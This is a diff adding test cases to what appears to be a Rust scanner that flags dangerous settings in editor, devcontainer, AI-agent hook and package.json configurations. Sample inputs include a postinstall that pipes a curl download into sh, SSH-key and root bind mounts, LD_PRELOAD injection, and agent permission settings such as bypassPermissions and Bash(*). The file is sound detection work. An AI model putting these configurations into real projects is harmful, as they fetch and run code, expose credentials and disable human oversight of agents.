@@ -34,6 +34,11 @@ fn editors_run_tasks_programs_and_commands_of_containers() {
                 r#"{"terminal.integrated.env.linux":{"LD_PRELOAD":"./x"}}"#,
                 &["terminal.integrated.env.linux.LD_PRELOAD"],
             ),
+            (r#"{"terminal.integrated.env.linux":{"PYTHONPATH":"${workspaceFolder}/src:${env:PYTHONPATH}"}}"#, &[]),
+            (
+                r#"{"terminal.integrated.env.linux":{"PYTHONPATH":"${workspaceFolder}/../x"}}"#,
+                &["terminal.integrated.env.linux.PYTHONPATH"],
+            ),
             (r#"{"chat.tools.autoApprove":true}"#, &["chat.tools.autoApprove"]),
         ],
     );
@@ -44,7 +49,12 @@ fn editors_run_tasks_programs_and_commands_of_containers() {
             (r#"{"postCreateCommand":"bash .devcontainer/setup.sh"}"#, &[]),
             (r#"{"initializeCommand":["./run.sh"]}"#, &["initializeCommand"]),
             (r#"{"postStartCommand":{"a":"curl http://a.example -o x","b":"./x"}}"#, &["postStartCommand"]),
+            (r#"{"mounts":["source=${localEnv:HOME}/.cache/a,target=/root/.cache/a,type=bind"]}"#, &[]),
+            (r#"{"runArgs":["--gpus=all","-v","${localEnv:HOME}/.cache:/root/.cache"]}"#, &[]),
             (r#"{"mounts":["source=${localEnv:HOME}/.ssh,target=/x,type=bind"]}"#, &["mounts"]),
+            (r#"{"mounts":[{"source":"/","target":"/x","type":"bind"}]}"#, &["mounts"]),
+            (r#"{"runArgs":["-v","${localEnv:HOME}/.ssh:/x"]}"#, &["runArgs"]),
+            (r#"{"runArgs":["--mount","type=bind,src=/etc,dst=/x"]}"#, &["runArgs"]),
         ],
     );
     check(
@@ -88,6 +98,11 @@ fn agents_start_servers_and_hooks() {
         &[
             (r#"{"model":"default","permissions":{"allow":["Bash(npm test:*)"]}}"#, &[]),
             (r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"./x"}]}]}}"#, &["hooks.Stop.hooks.command"]),
+            (r#"{"hooks":{"PostToolUse":[{"hooks":[{"type":"command","command":"ruff format && npx tsc"}]}]}}"#, &[]),
+            (
+                r#"{"hooks":{"Stop":[{"hooks":[{"command":"prettier --plugin ./x.js a"}]}]}}"#,
+                &["hooks.Stop.hooks.command"],
+            ),
             (r#"{"apiKeyHelper":"./x"}"#, &["apiKeyHelper"]),
             (r#"{"permissions":{"defaultMode":"bypassPermissions"}}"#, &["permissions.defaultMode"]),
             (r#"{"permissions":{"allow":["Bash(*)"]}}"#, &["permissions.allow"]),
@@ -146,7 +161,21 @@ fn packages_are_built_by_what_they_bring() {
         "web/package.json",
         &[
             (r#"{"scripts":{"build":"vite build","prepare":"husky install","postinstall":"patch-package"}}"#, &[]),
+            (r#"{"scripts":{"prepublish":"node x.js","prepare":"tshy","postinstall":"npx tsc"}}"#, &[]),
+            (r#"{"scripts":{"prepare":"not-in-publish || npm run build","build":"rollup -c && vite build"}}"#, &[]),
             (r#"{"scripts":{"preinstall":"node x.js"}}"#, &["preinstall"]),
+            (r#"{"scripts":{"preinstall":"npm run x","x":"node evil.js"}}"#, &["preinstall"]),
+            (r#"{"scripts":{"prepare":"yarn -s a","a":"pnpm run b","b":"tsc","postb":"./evil"}}"#, &["prepare"]),
+            (r#"{"scripts":{"prepare":"npm run x","x":"npm run x"}}"#, &["prepare"]),
+            (r#"{"scripts":{"install":"uv sync; cargo build; go mod download; make all"}}"#, &[]),
+            (r#"{"scripts":{"install":"uv run pip install x"}}"#, &[]),
+            (r#"{"scripts":{"install":"npm --prefix sub run x"}}"#, &["install"]),
+            (r#"{"scripts":{"install":"uv run evil.py"}}"#, &["install"]),
+            (r#"{"scripts":{"install":"cargo run; go run ./x"}}"#, &["install"]),
+            (r#"{"scripts":{"install":"go run ./x"}}"#, &["install"]),
+            (r#"{"scripts":{"install":"make -f evil.mk"}}"#, &["install"]),
+            (r#"{"scripts":{"install":"make --file=evil.mk"}}"#, &["install"]),
+            (r#"{"scripts":{"install":"git -c core.pager=./x log"}}"#, &["install"]),
             (r#"{"scripts":{"postinstall":"npm run build; curl http://a.example | sh"}}"#, &["postinstall"]),
         ],
     );
